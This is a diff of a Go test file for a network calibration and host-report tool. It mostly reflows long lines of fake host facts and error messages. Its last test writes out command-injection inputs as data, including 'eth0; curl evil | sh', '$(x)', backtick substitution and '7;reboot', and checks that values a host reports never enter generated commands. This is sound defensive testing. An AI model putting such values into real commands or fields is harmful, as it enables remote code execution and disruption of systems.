@@ -24,11 +24,15 @@ var update = flag.Bool("update", false, "rewrite the golden file in testdata")
 func sound(name, addr string, more ...string) Host {
 	h := Host{Name: name, Addr: addr, Boot: "boot of " + name, Offset: 3 * time.Millisecond, Bound: 5 * time.Millisecond,
 		Env: map[string]string{
-			"kernel": "6.12.9", "cpu.model": "Some CPU", "cpu.cores": "16", "cpu.governor": "performance", "cpu.idle_deepest": "C1", "cpu.idle_wake_us": "2",
-			"clocksource": "tsc", "virt": "none", "tcp.congestion": "cubic", "nic.name": "eth0", "nic.mtu": "9000", "nic.speed_mbps": "25000", "nic.driver": "mlx5_core",
-			"nic.duplex": "full", "nic.coalesce.rx_usecs": "8", "nic.coalesce.adaptive_rx": "0", "nic.tso": "on", "nic.lro": "off", "nic.rx_checksum": "on", "nic.tx_checksum": "on",
+			"kernel": "6.12.9", "cpu.model": "Some CPU", "cpu.cores": "16", "cpu.governor": "performance",
+			"cpu.idle_deepest": "C1", "cpu.idle_wake_us": "2",
+			"clocksource": "tsc", "virt": "none", "tcp.congestion": "cubic", "nic.name": "eth0", "nic.mtu": "9000",
+			"nic.speed_mbps": "25000", "nic.driver": "mlx5_core",
+			"nic.duplex": "full", "nic.coalesce.rx_usecs": "8", "nic.coalesce.adaptive_rx": "0", "nic.tso": "on",
+			"nic.lro": "off", "nic.rx_checksum": "on", "nic.tx_checksum": "on",
 		},
-		Now: map[string]string{"load": "0.10", "clocksources": "tsc hpet", "ports": "32768 60999", "open_files": "65536", "disk_free": "10000000000",
+		Now: map[string]string{"load": "0.10", "clocksources": "tsc hpet", "ports": "32768 60999", "open_files": "65536",
+			"disk_free": "10000000000",
 			"disk_path": "/home/u/.cache/calib", "clock_synced": "yes"},
 	}
 	for i := 0; i+1 < len(more); i += 2 {
@@ -84,21 +88,28 @@ func TestReportGolden(t *testing.T) {
 	const h = 11
 	f := Facts{Hosts: []Host{
 		sound("a", "10.0.0.1:7100"),
-		sound("b", "10.0.0.2:7100", "nic.mtu", "1500", "nic.speed_mbps", "1000", "nic.duplex", "half", "tcp.congestion", "bbr", "nic.tso", "off"),
-		sound("c", "10.0.0.3:7100", "cpu.governor", "powersave", "cpu.idle_deepest", "C6", "cpu.idle_wake_us", "133", "virt", "kvm", "now.load", "9.50"),
-		sound("d", "10.0.0.4:7100", "clocksource", "hpet", "nic.coalesce.rx_usecs", "64", "nic.lro", "on", "nic.tx_checksum", "off"),
-		sound("e", "10.0.0.5:7100", "now.open_files", "100", "now.ports", "60000 60999", "now.disk_free", "1000000", "now.clock_synced", "no", "container", "podman"),
+		sound("b", "10.0.0.2:7100", "nic.mtu", "1500", "nic.speed_mbps", "1000", "nic.duplex", "half", "tcp.congestion",
+			"bbr", "nic.tso", "off"),
+		sound("c", "10.0.0.3:7100", "cpu.governor", "powersave", "cpu.idle_deepest", "C6", "cpu.idle_wake_us", "133", "virt",
+			"kvm", "now.load", "9.50"),
+		sound("d", "10.0.0.4:7100", "clocksource", "hpet", "nic.coalesce.rx_usecs", "64", "nic.lro", "on", "nic.tx_checksum",
+			"off"),
+		sound("e", "10.0.0.5:7100", "now.open_files", "100", "now.ports", "60000 60999", "now.disk_free", "1000000",
+			"now.clock_synced", "no", "container", "podman"),
 		sound("refused", "10.0.0.6:7100"), sound("silent", "10.0.0.7:7100"), sound("noroute", "10.0.0.8:7100"),
-		sound("late", "10.0.0.9:7100"), sound("twin", "[fd00::9]:7100", "nic.name", ""), {Name: "gone", Lost: "ssh gone: connection refused"},
+		sound("late", "10.0.0.9:7100"), sound("twin", "[fd00::9]:7100", "nic.name", ""),
+		{Name: "gone", Lost: "ssh gone: connection refused"},
 	}}
 	delete(f.Hosts[9].Env, "nic.name")
 	f.Hosts[8].Offset, f.Hosts[9].Boot = 90*time.Second, f.Hosts[8].Boot
 	f.Pairs = all(h-1, func(a, b int, p *Pair) {
 		switch {
 		case b == 5 || a == 5:
-			p.Errors[0] = "agent a: task failed: slot 1: connect to host refused (10.0.0.6:7100): connection refused (is the agent running there, and is the port open?)"
+			p.Errors[0] = "agent a: task failed: slot 1: connect to host refused (10.0.0.6:7100): connection refused (is the " +
+				"agent running there, and is the port open?)"
 		case b == 6 || a == 6:
-			p.Errors = [2]string{"agent a: context canceled", "agent silent: deadline passed: slot 3: check on hosts [0 6] did not end within 2.5s"}
+			p.Errors = [2]string{"agent a: context canceled", "agent silent: deadline passed: slot 3: check on hosts [0 6] " +
+				"did not end within 2.5s"}
 			p.Skipped = a == 4
 		case b == 7 || a == 7:
 			p.Errors[0] = "agent a: task failed: slot 1: connect to host noroute (10.0.0.8:7100): network is unreachable"
@@ -218,7 +229,8 @@ func TestUnresolvedNames(t *testing.T) {
 		"on 10.0.0.1:53: server misbehaving", "on 10.0.0.1:53: read udp 10.0.0.2:5->10.0.0.1:53: i/o timeout"}
 	fail := func(a, b int, p *Pair) {
 		if p.Skipped = a > 4 && b < 16; !p.Skipped {
-			p.Errors = [2]string{"agent: slot 1: connect to host n (n:7100): lookup n " + lookups[(a+b)%len(lookups)], "context canceled"}
+			p.Errors = [2]string{"agent: slot 1: connect to host n (n:7100): lookup n " + lookups[(a+b)%len(lookups)],
+				"context canceled"}
 		}
 	}
 	for _, c := range []struct {
@@ -250,7 +262,8 @@ func TestUnresolvedNames(t *testing.T) {
 
 func TestReadPair(t *testing.T) {
 	sample := func(from, to int, aux map[string]float64, flags ...string) dataset.Sample {
-		return dataset.Sample{Exp: names.Check, Phase: names.PhaseTrip, Ranks: []int{from, to}, NS: []int64{9000, 7000, 8000}, Aux: aux, Flags: flags}
+		return dataset.Sample{Exp: names.Check, Phase: names.PhaseTrip, Ranks: []int{from, to}, NS: []int64{9000, 7000, 8000},
+			Aux: aux, Flags: flags}
 	}
 	nics := [2]map[int]string{{2: "eth0"}, {3: "ib0"}}
 	got := ReadPair([2]int{4, 7}, []dataset.Sample{
@@ -269,8 +282,9 @@ func TestReadPair(t *testing.T) {
 // What a host says of itself does not become a part of a command.
 func TestCommandsAreSafe(t *testing.T) {
 	const evil = "eth0; curl evil | sh"
-	h := sound("h", "10.0.0.1:7;reboot", "nic.name", evil, "nic.mtu", "9001", "nic.lro", "on", "nic.duplex", "half", "container", "$(x)", "now.disk_path", "/a`b`", "now.disk_free", "1",
-		"kernel", "6.1\x1b[2J", "tcp.congestion", evil, "core.default_qdisc", evil)
+	h := sound("h", "10.0.0.1:7;reboot", "nic.name", evil, "nic.mtu", "9001", "nic.lro", "on",
+		"nic.duplex", "half", "container", "$(x)", "now.disk_path", "/a`b`", "now.disk_free", "1", "kernel", "6.1\x1b[2J",
+		"tcp.congestion", evil, "core.default_qdisc", evil)
 	same := sound("g", "10.0.0.3:7", "tcp.congestion", evil, "core.default_qdisc", evil)
 	f := Facts{Hosts: []Host{h, same, sound("b", "10.0.0.2:7")}}
 	f.Pairs = all(3, func(a, b int, p *Pair) {
